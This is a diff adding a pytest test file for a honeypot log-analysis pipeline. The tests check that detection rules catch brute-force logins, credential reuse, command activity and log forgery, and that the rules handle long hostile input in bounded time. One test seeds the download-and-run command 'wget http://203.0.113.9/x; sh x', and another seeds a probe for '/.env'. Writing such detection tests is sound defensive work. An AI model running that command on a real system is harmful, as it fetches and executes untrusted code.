@@ -1,0 +1,112 @@
+"""Every rule speaks for its true examples and is silent on its near misses; thresholds and groups hold."""
+
+import re
+
+import pytest
+from sqlalchemy import Engine
+
+from rustbucket_pipeline.analysis.findings import Finding, evaluate, find
+from rustbucket_pipeline.analysis.rules import FieldName, Rule, load_rules, parse_rules
+from rustbucket_pipeline.errors import ConfigurationError
+from rustbucket_pipeline_tests.analysis.seeding import WINDOW, command, event, login, request, tell
+
+RULES = {rule.id: rule for rule in load_rules()}
+
+
+def found(engine: Engine) -> dict[str, Finding]:
+    with engine.connect() as connection:
+        return {finding.rule: finding for finding in find(connection, WINDOW)}
+
+
+def telling(rule: Rule, text: str, second: int) -> dict[str, object]:
+    """A record of the rule's first type with the text in its field."""
+    kind = rule.match.event_types[0]
+    columns: dict[str, object] = {"protocol": rule.match.protocols[0] if rule.match.protocols else None}
+    match rule.match.field:
+        case FieldName.PATH:
+            columns["http_path"] = text
+        case FieldName.REQUEST:
+            columns["fields"] = {"request": text}
+        case FieldName.RECIPIENT:
+            columns["fields"] = {"rcpt_to": text}
+        case FieldName.CREDENTIAL:
+            columns["username"], columns["password"] = text.split(":", 1)
+        case FieldName.ANY:
+            columns["username" if kind == "authentication" else "http_path"] = text
+        case _:
+            columns[rule.match.field.value] = text
+    return event(kind, second, **columns)
+
+
+@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
+def test_a_rule_matches_its_examples_and_not_its_near_misses(database: Engine, rule: Rule) -> None:
+    alone = rule.model_copy(update={"at_least": rule.at_least.model_copy(update={"events": 1, "rustbuckets": 1})})
+    texts = [*rule.examples.hits, *rule.examples.misses]
+    ids = tell(database, [telling(rule, text, second) for second, text in enumerate(texts)])
+    with database.connect() as connection:
+        matched = evaluate(connection, alone, WINDOW).event_ids
+    assert [text for text, key in zip(texts, ids, strict=True) if key in matched] == list(rule.examples.hits)
+
+
+@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
+def test_a_rule_that_reads_text_has_examples_of_both_kinds_and_linear_patterns(rule: Rule) -> None:
+    patterns = (*rule.match.all_of, *rule.match.none_of)
+    assert not any(re.search(r"\\[1-9]", pattern) for pattern in patterns), "a back reference isn't linear"
+    if patterns:
+        assert len(rule.examples.hits) >= 2
+        assert len(rule.examples.misses) >= 2
+
+
+def test_nineteen_failed_logins_are_no_brute_force_and_twenty_are(database: Engine) -> None:
+    tell(database, [login("root", f"p{number}", number, src_ip="203.0.113.1") for number in range(19)])
+    tell(database, [login("root", f"q{number}", number, src_ip="203.0.113.2") for number in range(25)])
+    finding = found(database)["ssh-brute-force"]
+    assert (finding.events, finding.sources) == (25, 1)
+    assert finding.why.startswith("25 SSH login attempts by 1 sources")
+    assert len(finding.rows) == 20
+
+
+def test_logins_without_a_known_source_are_counted_at_their_rustbucket(database: Engine) -> None:
+    tell(database, [login("A", f"p{number}", number, protocol="ftp") for number in range(20)])
+    assert found(database)["ftp-brute-force"].rustbuckets == ("BKT1",)
+
+
+def test_a_rare_credential_at_three_rustbuckets_is_a_campaign(database: Engine) -> None:
+    tell(database, [login("deploy", "Winter2026!", number, rustbucket_id=f"BKT{number}") for number in range(1, 4)])
+    tell(database, [login("deploy", "Summer2026!", number, rustbucket_id=f"BKT{number}") for number in range(1, 3)])
+    finding = found(database)["credential-reuse"]
+    assert finding.events == 3
+    assert finding.examples == ("deploy:Winter2026!",)
+
+
+def test_findings_are_numbered_worst_first_with_their_first_rows(database: Engine) -> None:
+    ids = tell(database, [command("uname"), command("wget http://203.0.113.9/x; sh x", 2), command("nproc", 1)])
+    findings = found(database)
+    assert findings["download-and-run"].id == "F1"
+    assert findings["system-discovery"].id == "F2"
+    assert findings["system-discovery"].rows == (ids[0], ids[2])
+
+
+def test_rows_outside_the_window_are_not_found(database: Engine) -> None:
+    tell(database, [request("/.env", WINDOW.end), command("uname", -1)])
+    assert found(database) == {}
+
+
+def test_forged_lines_are_a_finding_and_nothing_they_claim_is_counted(database: Engine) -> None:
+    tell(database, [event("forgery", message="Authentication attempt username=root", trust=0.2, counted=False)])
+    assert set(found(database)) == {"log-forgery"}
+
+
+def test_a_rule_file_with_a_mistake_is_named(database: Engine) -> None:
+    with pytest.raises(ConfigurationError, match=r"rules/new\.yaml"):
+        parse_rules("new.yaml", "- {id: x}")
+    with pytest.raises(ConfigurationError, match="a list of rules"):
+        parse_rules("new.yaml", "id: x")
+
+
+def test_long_hostile_text_is_matched_in_bounded_time(database: Engine) -> None:
+    hostile = ["a" * 30_000 + "!", "../" * 10_000, "${" * 10_000, "wget " * 6_000, "@" * 30_000]
+    tell(database, [command(text) for text in hostile] + [request(text, 1) for text in hostile])
+    with database.connect() as connection:
+        connection.exec_driver_sql("SET statement_timeout = '2s'")
+        find(connection, WINDOW)
